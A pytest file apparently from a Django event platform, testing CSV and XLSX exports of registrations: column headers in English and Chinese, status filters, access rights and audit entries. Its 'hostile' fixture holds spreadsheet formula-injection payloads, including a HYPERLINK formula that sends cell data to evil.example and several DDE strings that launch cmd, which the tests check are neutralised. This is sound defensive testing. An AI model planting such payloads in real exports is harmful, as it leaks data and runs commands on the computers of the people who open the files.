"""The organiser's downloads of registrations (CSV and XLSX): columns, formulas neutralised, filters, languages,
who may download (as who may open the registrations page) and the audit trail."""

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from innobelt.audit.models import AuditEntry
from innobelt.events.models import Answer, Registration
from tests.events.conftest import person
from tests.factories import EventFactory, QuestionFactory, RegistrationFactory

pytestmark = pytest.mark.django_db


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def read_xlsx(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [[c.value for c in row] for row in sheet.iter_rows()]


@pytest.fixture
def hostile(scene):
    """A registration whose name, organisation and answer are formulas."""
    question = QuestionFactory(event=scene.event, label_en="Position", label_zh="职位")
    registration = RegistrationFactory(event=scene.event)
    registration.user.display_name = "=HYPERLINK(\"http://evil.example/?\"&C2,\"click\")"
    registration.user.save()
    registration.organisation.name_en = "+cmd|' /C calc'!A0"
    registration.organisation.name_zh = "@SUM(1+1)*cmd|' /C calc'!A0"
    registration.organisation.save()
    Answer.objects.create(registration=registration, question=question, value="-2+3+cmd|' /C calc'!A0")
    return registration


def test_csv_has_the_pages_columns_with_every_formula_neutralised(scene, hostile):
    response = client_for(scene.admin).get(f"/en/events/{scene.event.pk}/registrations/export.csv")
    assert response.status_code == 200 and response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"].startswith(f'attachment; filename="registrations-event-{scene.event.pk}-all-')
    header, row = read_csv(response)
    assert header == ["Name", "Organisation", "E-mail address", "Status", "Registered at", "Checked in at", "Position"]
    assert row[:4] == ["'=HYPERLINK(\"http://evil.example/?\"&C2,\"click\")", "'+cmd|' /C calc'!A0", hostile.user.email, "registered"]
    assert row[6] == "'-2+3+cmd|' /C calc'!A0" and row[5] == ""
    assert hostile.code not in response.content.decode("utf-8-sig")  # the code checks people in: not in the file


def test_xlsx_the_same_as_text_never_formulas(scene, hostile):
    response = client_for(scene.admin).get(f"/en/events/{scene.event.pk}/registrations/export.xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    header, row = read_xlsx(response)
    assert header[0] == "Name" and header[-1] == "Position"
    assert row[0].startswith("'=") and row[1].startswith("'+") and row[6].startswith("'-")
    assert row[4].year == hostile.created_at.year  # registered at: a date the spreadsheet can sort


def test_headers_and_values_in_chinese(scene, hostile):
    response = client_for(scene.admin).get(f"/events/{scene.event.pk}/registrations/export.xlsx")
    assert load_workbook(io.BytesIO(response.content)).worksheets[0].title == "报名名单"
    header, row = read_xlsx(response)
    assert header == ["姓名", "机构", "电子邮箱", "状态", "报名时间", "签到时间", "职位"]
    assert row[1] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row[3] == "已报名"
    header, _row = read_csv(client_for(scene.admin).get(f"/events/{scene.event.pk}/registrations/export.csv"))
    assert header[0] == "姓名" and header[-1] == "职位"


def test_filtered_by_status_as_the_page_is(scene):
    RegistrationFactory(event=scene.event)
    waiting = RegistrationFactory(event=scene.event, status=Registration.Status.WAITLISTED, confirmed_at=None)
    client = client_for(scene.admin)
    rows = read_csv(client.get(f"/en/events/{scene.event.pk}/registrations/export.csv?status=waitlisted"))
    assert [r[0] for r in rows[1:]] == [str(waiting.user)]
    assert len(read_csv(client.get(f"/en/events/{scene.event.pk}/registrations/export.csv?status=nonsense"))) == 3  # all
    page = client.get(f"/en/events/{scene.event.pk}/registrations/?status=waitlisted").content.decode()
    assert f'href="/en/events/{scene.event.pk}/registrations/export.xlsx?status=waitlisted"' in page
    assert f'href="/en/events/{scene.event.pk}/registrations/export.csv?status=waitlisted"' in page


def test_every_download_is_audited(scene, hostile):
    client_for(scene.admin).get(f"/en/events/{scene.event.pk}/registrations/export.xlsx?status=confirmed")
    entry = AuditEntry.objects.get(action="event.registrations_exported")
    assert (entry.actor, entry.target_id, entry.data) == (scene.admin, str(scene.event.pk),
                                                          {"format": "xlsx", "status": "confirmed", "rows": 1})


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_only_the_events_managers_as_on_the_registrations_page(scene, hostile, file_format):
    draft = EventFactory(organiser=scene.organiser, city=scene.city, status="draft", published_at=None)
    outsider = person()
    for who, event, expected in [(scene.staff, scene.event, 403), (outsider, scene.event, 403), (outsider, draft, 404),
                                 (scene.admin, draft, 200)]:
        client = client_for(who)
        page = client.get(f"/en/events/{event.pk}/registrations/")
        download = client.get(f"/en/events/{event.pk}/registrations/export.{file_format}")
        assert (page.status_code, download.status_code) == (expected, expected), (who, event)
    assert Client().get(f"/en/events/{scene.event.pk}/registrations/export.{file_format}").status_code == 302  # sign in first
    assert AuditEntry.objects.filter(action="event.registrations_exported").count() == 1  # the admin's only


def test_an_unknown_format_is_not_found(scene):
    assert client_for(scene.admin).get(f"/en/events/{scene.event.pk}/registrations/export.pdf").status_code == 404
